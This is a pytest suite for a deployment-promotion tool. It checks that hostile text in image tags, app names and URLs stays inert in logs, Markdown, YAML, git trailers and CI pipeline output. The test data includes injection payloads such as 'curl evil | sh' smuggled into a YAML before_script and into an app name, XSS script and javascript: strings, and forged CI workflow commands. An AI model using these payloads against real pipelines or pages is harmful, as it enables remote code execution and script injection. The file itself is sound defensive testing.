"""Injection through every sink: hostile text reaches each output promoter writes and stays
data there. Each encoder is checked by property over arbitrary text (bounded hypothesis
profile) and each caller with the payloads the issue reported (issue 19)."""

from __future__ import annotations

import json
import re
import shlex
import subprocess
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from ruamel.yaml import YAML

from promoter import redact, sinks
from promoter.ci import Source
from promoter.imageref import parse_image_ref
from promoter.promotion.message import commit_message, pull_request_body, title
from promoter.promotion.report import summary
from promoter.promotion.result import Change, EnvironmentResult, Result, Status
from promoter.queries.fanout import Fanout, Pending, gitlab_pipeline

PAYLOADS = [
    "1.5.0\n  image: evil/image\n  before_script: [curl evil | sh]\n  #",
    "1.5.0\n\nSource-commit: 0000000000000000000000000000000000000000",
    "x` <img src=x onerror=alert(1)> `[click](javascript:alert(1)) @acme/team",
    "::error::forged\n::stop-commands::pwned",
    "##[error]forged",
    "a|b|c</td><script>alert(1)</script>",
    "\x1b[31mred\x1b[0m\r\u202eevil",
    "``` code ``` `` ` ",
]
TEXT = st.text(max_size=60)


@given(TEXT)
def test_log_line_is_one_line_without_workflow_commands(text: str) -> None:
    line = sinks.log_line(text)
    assert "\n" not in line
    assert "\r" not in line
    assert not re.search(r"[\x00-\x1f\x7f-\x9f\u2028\u2029]", line)
    assert not line.lstrip().startswith("::")
    assert "##[" not in line


@given(TEXT)
def test_markdown_code_cannot_be_closed_by_its_content(text: str) -> None:
    span = sinks.markdown_code(text)
    if set(text) & set("<>@&"):  # no code span can hold markup safely: escaped text
        assert span == sinks.markdown_text(text)
        return
    fence = re.match(r"`+", span)
    assert fence is not None
    inner = span[len(fence.group()) : -len(fence.group())]
    assert span.endswith(fence.group())
    assert all(len(run) != len(fence.group()) for run in re.findall(r"`+", inner))
    assert "\n" not in span
    assert re.search(r"(?<!\\)\|", span) is None  # no cell separator


@given(TEXT)
def test_markdown_text_has_no_markup_mention_or_link(text: str) -> None:
    out = sinks.markdown_text(text)
    assert not set("<>@[]`|!$%\n") & set(out)  # GitLab references too (!1, $1, %m)
    assert re.search(r"&(?!amp;|#[0-9]+;)", out) is None  # every & starts a reference


@given(TEXT)
def test_yaml_scalar_reads_back_as_one_string(text: str) -> None:
    loaded = YAML(typ="safe").load(f"key: {sinks.yaml_scalar(text)}\n")
    assert loaded == {"key": redact.redact(text)}


@given(TEXT)
def test_output_and_trailer_values_are_single_lines(text: str) -> None:
    assert len(sinks.output_value(text).splitlines()) <= 1
    assert len(sinks.trailer_value(text).splitlines()) <= 1


@pytest.mark.parametrize(
    "url",
    ["javascript:alert(1)", "data:text/html,x", "https://x/a) [y](javascript:1",
     "https://user:pw@host/x", "//host/x", "https://host/\nx"],
)  # fmt: skip
def test_markdown_link_renders_only_web_urls(url: str) -> None:
    assert "](" not in sinks.markdown_link("label", url)


def test_sinks_mask_registered_secrets() -> None:
    redact.register("tok-sinks-123456")
    for encode in (sinks.log_line, sinks.markdown_text, sinks.output_value, sinks.html_text):
        assert "tok-sinks-123456" not in encode("leak tok-sinks-123456 here")


def _hostile_result(payload: str) -> EnvironmentResult:
    change = Change(f"apps/{payload}/k.yaml", 3, "/images/0/newTag", payload, "1.6.0",
                    "ghcr.io/acme/web", "kustomize")  # fmt: skip
    return EnvironmentResult("production", Status.CHANGED, (change,), overrides=(payload,))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_commit_message_trailers_are_promoters_alone(payload: str, tmp_path: Path) -> None:
    image = parse_image_ref("ghcr.io/acme/web:1.6.0")
    source = Source("https://github.com/acme/web", "a" * 40, "https://ci.example/run/1")
    message = commit_message("production", _hostile_result(payload), [image], source,
                             promoted_from=payload)  # fmt: skip
    subject = message.split("\n", 1)[0]
    assert subject == title("production", _hostile_result(payload))
    assert message.split("\n\n", 1)[0] == subject  # the subject is one line
    parsed = subprocess.run(
        ["git", "interpret-trailers", "--parse"], input=message, capture_output=True,
        text=True, check=True, cwd=tmp_path,
    ).stdout.splitlines()  # fmt: skip
    keys = [line.split(":", 1)[0] for line in parsed]
    assert keys.count("Source-commit") == 1
    assert f"Source-commit: {'a' * 40}" in parsed
    assert set(keys) <= {"Promoted-by", "Promoted-env", "Promoter-policy-override",
                         "Promoted-from", "Promoted-image", "Source-repository",
                         "Source-commit", "Pipeline-url"}  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
def test_pull_request_body_and_summary_keep_payloads_inert(payload: str) -> None:
    image = parse_image_ref("ghcr.io/acme/web:1.6.0")
    source = Source("javascript:alert(1)//", "b" * 40, "javascript:alert(2)")
    result = _hostile_result(payload)
    body = pull_request_body("production", result, [image], source, promoted_from=payload,
                             compare_url="javascript:alert(3)")  # fmt: skip
    step = summary(Result(Status.CHANGED, (result,)))
    for text in (body, step):
        assert "<img" not in text
        assert "<script" not in text
        assert "](javascript" not in text
        assert "](data" not in text
        assert "@acme" not in text
        table = [line for line in text.splitlines() if line.startswith("| ")]
        # four columns on every row: no payload added or split a cell
        assert all(len(re.findall(r"(?<!\\)\|", line)) == 5 for line in table), table
    rows = [line for line in body.splitlines() if line.startswith("| ") and "→" in line]
    assert len(rows) == 1  # one change, one row: no newline split the table
    assert len(re.findall(r"(?<!\\)\|", rows[0])) == 5


def test_gitlab_pipeline_keeps_names_and_versions_as_one_word_of_one_value() -> None:
    app = "web;curl evil|sh #"
    ref = parse_image_ref("ghcr.io/acme/web:1.6.0")
    fanout = Fanout("staging", "production", (Pending(app, ref, None),))
    text = gitlab_pipeline(fanout, config_repo="https://x/y.git\nevil: 1")
    loaded = YAML(typ="safe").load(text)
    assert set(loaded) == {"stages", "variables", ".promote", f"promote-{app}"}
    assert loaded["variables"] == {"PROMOTER_CONFIG_REPO": "https://x/y.git\nevil: 1"}
    (script,) = loaded[f"promote-{app}"]["script"]
    assert shlex.split(script) == ["promote", "--to", "production", "--from", "staging",
                                   "--app", app]  # fmt: skip
    assert all(not line.lstrip().startswith("#") or "promote plan" in line or "exit 3" in line
               for line in text.splitlines())  # fmt: skip


# -- end to end: a hostile staging value reaches every command that reads it ------------------

NEWLINE_TAG = "1.5.0\n  image: evil/image\n  before_script: [curl evil | sh]\n  #"


def _poison_staging(files: dict[str, bytes]) -> dict[str, bytes]:
    path = "apps/web/overlays/staging/kustomization.yaml"
    text = files[path].decode().replace("newTag: 1.4.2", f"newTag: {json.dumps(NEWLINE_TAG)}")
    return {**files, path: text.encode()}


@pytest.mark.parametrize(
    "args",
    [("plan", "--to", "production", "--all", "--output", "gitlab-pipeline"),
     ("plan", "--to", "production", "--all", "--output", "github-matrix"),
     ("--to", "production", "--app", "web"),
     ("status",)],
)  # fmt: skip
def test_a_version_that_is_no_tag_is_refused_naming_file_and_line(
    args: tuple[str, ...], tmp_path: Path
) -> None:
    from e2e.conftest import fixture_files, refs, run_on_github
    from fakes.github import FakeGitHub

    token = "ghs_hardening_sinks_token"
    with FakeGitHub(tmp_path / "gh", token=token) as github:
        bare = github.create_repo("acme", "config", _poison_staging(fixture_files()))
        before = refs(bare)
        run = run_on_github(tmp_path, github, token, *args)
        after = refs(bare)
        pulls = list(github.pulls.values())
    assert run.returncode == 2, (run.stdout, run.stderr)
    lines = run.stderr.strip().splitlines()
    assert len(lines) == 1, run.stderr
    assert "apps/web/overlays/staging/kustomization.yaml:" in lines[0]
    assert "evil/image" not in run.stdout
    assert "before_script" not in run.stdout
    assert after == before
    assert not any(pulls)
